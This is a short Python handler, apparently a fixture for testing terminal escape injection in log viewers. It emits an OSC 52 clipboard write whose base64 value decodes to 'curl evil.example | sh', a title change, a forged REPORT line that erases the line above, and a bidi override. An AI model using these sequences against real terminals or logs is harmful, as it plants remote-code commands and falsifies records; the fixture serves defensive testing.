"""Writes terminal escape sequences to its log: an OSC 52 that would set the
reader's clipboard, a window title, and a forged REPORT line that moves the
cursor up and erases the line above before it draws itself."""

import sys


def handle(event, context):
    print("\x1b]52;c;" + "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + "\x07clipboard set")
    print("\x1b]0;pwned title\x07title set")
    print("\x1b[1A\x1b[2KREPORT RequestId: forged-id Duration: 0.01 ms Billed Duration: 1 ms")
    sys.stderr.write("\x9b2J 8-bit CSI, bidi \u202eevil\u202c\n")
    return "logged"
